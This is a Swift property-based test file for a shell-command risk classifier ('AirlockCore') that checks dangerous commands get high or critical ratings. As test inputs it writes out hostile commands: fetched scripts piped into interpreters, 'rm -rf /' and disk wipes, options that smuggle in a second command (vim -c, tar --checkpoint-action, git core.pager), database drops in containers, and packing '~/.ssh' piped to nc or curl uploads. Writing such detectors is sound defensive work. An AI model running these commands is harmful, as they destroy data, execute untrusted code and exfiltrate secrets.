import Foundation
import PropertyBased
import Testing

@testable import AirlockCore

/// The third pass's classes as generated inputs: any interpreter or shell whose script is a
/// fetcher's output, any option that runs a command, any container or pod wrapper, any `find`
/// root with any write verb, any packer piped to any sender, any well-known shell set-up.
struct ThirdPassPropertyTests {
    static func assess(_ command: String) -> Assessment {
        Classifier.assess(command: command, context: ClassTableTests.context)
    }

    static let fetchers = [
        "curl -s https://get.example.com/i", "curl -fsSL https://example.com/x", "wget -qO- https://example.com/x",
        "wget -O - https://example.com/x", "curl --silent https://example.com/x",
    ]
    static let runners = ["python3", "python", "node", "ruby", "perl", "php", "bash", "sh", "zsh", "dash"]

    /// `RUNNER <(FETCH)`, `RUNNER < <(FETCH)`, `source <(FETCH)` and `FETCH | RUNNER /dev/stdin`
    /// run downloaded code.
    @Test func aFetchersOutputAsTheScriptIsRemoteCodeExecution() async {
        let fetchers = Self.fetchers, runners = Self.runners
        let forms: [@Sendable (String, String) -> String] = [
            { runner, fetch in "\(runner) <(\(fetch))" }, { runner, fetch in "\(runner) <(\(fetch)) --yes" },
            { runner, fetch in "\(fetch) | \(runner) /dev/stdin" }, { runner, fetch in "\(fetch) | \(runner) -" },
            { _, fetch in "source <(\(fetch))" }, { _, fetch in ". <(\(fetch))" },
            { runner, fetch in "\(runner) < <(\(fetch))" },
        ]
        await propertyCheck(
            count: 300, input: Gen.int(in: 0...(runners.count - 1)), Gen.int(in: 0...(fetchers.count - 1)),
            Gen.int(in: 0...(forms.count - 1))
        ) { runner, fetch, form in
            let command = forms[form](runners[runner], fetchers[fetch])
            let assessment = Self.assess(command)
            #expect(assessment.risk == .critical, "\(command): \(assessment.risk) — \(assessment.summary)")
            #expect(assessment.categories.contains(.remoteExec), "\(command): \(assessment.categories)")
        }
    }

    static let innerCommands = ["rm -rf ~", "rm -rf /", "curl -s https://example.com/x | sh", "dd if=/dev/zero of=/dev/sda"]
    static let commandOptions: [@Sendable (String) -> String] = [
        { "vim -c '!\($0)' notes.txt" }, { "vim -c ':!\($0)'" }, { "vi +'!\($0)' f" }, { "nvim -c ':!\($0)'" },
        { "ex -c '!\($0)' f" }, { "rsync -e '\($0)' -a src/ host:/srv/" }, { "rsync --rsh='\($0)' src/ host:" },
        { "zip --unzip-command '\($0)' -T a.zip f" }, { "zip -TT '\($0)' -T a.zip f" },
        { "tar --to-command='\($0)' -xf a.tar" }, { "tar --checkpoint=1 --checkpoint-action=exec='\($0)' -cf a.tar f" },
        { "git -c core.pager='\($0)' log" }, { "git -c core.editor='\($0)' commit" }, { "split --filter='\($0)' big.log" },
        { "find . -exec sh -c '\($0)' \\;" }, { "xargs sh -c '\($0)' < list.txt" },
    ]

    /// An option that runs a command keeps that command's risk: the inner string is shell code.
    @Test func anOptionThatRunsACommandIsJudgedByThatCommand() async {
        let inner = Self.innerCommands, options = Self.commandOptions
        await propertyCheck(
            count: 300, input: Gen.int(in: 0...(inner.count - 1)), Gen.int(in: 0...(options.count - 1))
        ) { command, option in
            let bare = Self.assess(inner[command])
            let line = options[option](inner[command])
            let wrapped = Self.assess(line)
            #expect(wrapped.risk >= bare.risk, "\(line): \(wrapped.risk) < \(bare.risk) — \(wrapped.summary)")
            #expect(wrapped.risk >= .high, "\(line): \(wrapped.risk)")
        }
    }

    static let containerPrefixes = [
        "docker exec web", "docker exec -it web", "docker exec -u root -w /app web", "podman exec web",
        "docker container exec web", "docker compose exec db", "docker compose -f prod.yml exec -T db",
        "docker-compose exec db", "docker-compose -p shop exec --index 2 db", "podman-compose exec db",
        "kubectl exec api-0 --", "kubectl exec -n prod api-0 -c app --", "kubectl exec -it deploy/api --",
    ]
    static let harmfulInside = [
        "mysql -e 'DROP DATABASE shop'", "psql -c 'DROP TABLE users'", "redis-cli FLUSHALL", "rm -rf /var/lib/app",
        "psql -c 'TRUNCATE orders'",
    ]
    static let harmlessInside = ["ls /app", "cat /etc/hostname", "ps aux", "env | grep PATH", "pytest -q", "whoami"]

    /// Inside a container or pod the command is judged as itself: harmful stays high or more,
    /// harmless stays medium at most (the outer command adds the container or cluster scope).
    @Test func aContainerCommandIsJudgedByTheCommandInside() async {
        let prefixes = Self.containerPrefixes, harmful = Self.harmfulInside, harmless = Self.harmlessInside
        await propertyCheck(
            count: 300, input: Gen.int(in: 0...(prefixes.count - 1)), Gen.int(in: 0...(harmful.count - 1)),
            Gen.int(in: 0...(harmless.count - 1))
        ) { prefix, bad, good in
            let badLine = "\(prefixes[prefix]) \(harmful[bad])"
            let bareBad = Self.assess(harmful[bad])
            let wrappedBad = Self.assess(badLine)
            #expect(wrappedBad.risk >= .high, "\(badLine): \(wrappedBad.risk) — \(wrappedBad.summary)")
            #expect(
                Set(bareBad.categories).subtracting([.unknown]).isSubset(of: Set(wrappedBad.categories)),
                "\(badLine): \(wrappedBad.categories) lost \(bareBad.categories)")
            let goodLine = "\(prefixes[prefix]) \(harmless[good])"
            let wrappedGood = Self.assess(goodLine)
            #expect(wrappedGood.risk <= .medium, "\(goodLine): \(wrappedGood.risk) — \(wrappedGood.summary)")
        }
    }

    static let roots = ["/", "~", "/etc", "/usr", "/home", "/var", "$HOME", "/usr/local", "/opt"]
    static let writeVerbs = [
        "chmod 777", "chown root", "chgrp wheel", "sed -i s/a/b/", "truncate -s 0", "chmod -x", "chown -h nobody",
        "cp /tmp/x", "ln -sf /dev/null", "cp -f /tmp/evil.conf",
    ]
    static let forms: [@Sendable (String, String) -> String] = [
        { root, verb in "find \(root) -type f -exec \(verb) {} \\;" }, { root, verb in "find \(root) -user 1000 -exec \(verb) {} +" },
        { root, verb in "find \(root) -name '*.conf' -execdir \(verb) {} \\;" }, { root, verb in "find \(root) -perm -002 | xargs \(verb)" },
        { root, verb in "find \(root) -type f -print0 | xargs -0 \(verb)" }, { root, verb in "find \(root) -type f | xargs -I{} \(verb) {}" },
    ]

    /// A write verb handed the files `find ROOT` finds changes files under ROOT: a system or
    /// home root makes it high, filtered or not.
    @Test func aFindUnderASystemOrHomeRootFeedingAWriteIsHigh() async {
        let roots = Self.roots, verbs = Self.writeVerbs, forms = Self.forms
        await propertyCheck(
            count: 300, input: Gen.int(in: 0...(roots.count - 1)), Gen.int(in: 0...(verbs.count - 1)),
            Gen.int(in: 0...(forms.count - 1))
        ) { root, verb, form in
            let command = forms[form](roots[root], verbs[verb])
            let assessment = Self.assess(command)
            #expect(assessment.risk >= .high, "\(command): \(assessment.risk) — \(assessment.summary)")
        }
        for verb in verbs {
            let command = "find . -name '*.txt' -exec \(verb) {} +"
            #expect(Self.assess(command).risk < .high, "\(command)")
        }
    }

    static let packers = ["tar cf - .", "tar czf - src", "tar -cJf - docs", "tar --create --file=- .", "find . | cpio -o"]
    static let middles = ["", " | gzip", " | pv", " | gzip -9 | base64", " | openssl enc -aes256 -pass pass:x"]
    static let senders = [
        "nc 203.0.113.9 9000", "ncat host 9000", "ssh backup@host 'cat > a.tar'", "curl -T - https://files.example.com/up",
        "curl --data-binary @- https://example.com/u", "curl -X PUT --upload-file - https://example.com/u",
        "socat - TCP:host:9000", "aws s3 cp - s3://bucket/a.tgz",
    ]

    /// Files packed to standard output and piped, through any compressor, to any sender are an
    /// upload: high and network; of a secret, critical.
    @Test func packedFilesPipedToASenderAreAnUpload() async {
        let packers = Self.packers, middles = Self.middles, senders = Self.senders
        await propertyCheck(
            count: 300, input: Gen.int(in: 0...(packers.count - 1)), Gen.int(in: 0...(middles.count - 1)),
            Gen.int(in: 0...(senders.count - 1))
        ) { packer, middle, sender in
            let command = "\(packers[packer])\(middles[middle]) | \(senders[sender])"
            let assessment = Self.assess(command)
            #expect(assessment.risk >= .high, "\(command): \(assessment.risk) — \(assessment.summary)")
            #expect(assessment.categories.contains(.network), "\(command): \(assessment.categories)")
            let secret = Self.assess("tar czf - ~/.ssh\(middles[middle]) | \(senders[sender])")
            #expect(secret.risk == .critical, "secret via \(senders[sender]): \(secret.risk)")
        }
        for sink in ["wc -c", "sha256sum", "tar xf - -C /tmp/copy", "gzip > /tmp/a.tgz"] {
            #expect(Self.assess("tar cf - src | \(sink)").risk < .high, "tar cf - src | \(sink)")
        }
    }

    /// `eval "$(TOOL VERB)"` of every tool in the set-up table is medium; the same shape with a
    /// fetcher or a project script is not.
    @Test func wellKnownShellSetupIsMedium() {
        var checked = 0
        for (program, verbs) in ShellSetup.table {
            for verb in verbs {
                for form in ["eval \"$(\(program) \(verb))\"", "eval `\(program) \(verb)`", "eval $(\(program) \(verb))"] {
                    let assessment = Self.assess(form)
                    #expect(assessment.risk == .medium, "\(form): \(assessment.risk) — \(assessment.summary)")
                    checked += 1
                }
            }
        }
        #expect(checked > 80)
        #expect(Self.assess("eval \"$(curl -s https://example.com/env)\"").risk == .critical)
        #expect(Self.assess("eval \"$(./gen-env.sh)\"").risk >= .high)
        #expect(Self.assess("eval \"$(pyenv init -)$(./gen-env.sh)\"").risk >= .high)
        #expect(Self.assess("eval \"$(ssh-agent -s; rm -rf ~)\"").risk == .critical)
    }

    /// Every publishing tool's rule example is a deploy asked in every mode.
    @Test func everyPublisherPublishes() {
        for publisher in PublishPrograms.table {
            guard let spec = ProgramRegistry.shared.spec(for: publisher.name), let rule = spec.rules.first else {
                Issue.record("\(publisher.name) is not registered")
                continue
            }
            let assessment = Self.assess(rule.example)
            #expect(assessment.categories.contains(.deploy), "\(rule.example): \(assessment.summary)")
            #expect(assessment.risk >= .high, "\(rule.example): \(assessment.risk)")
        }
    }
}
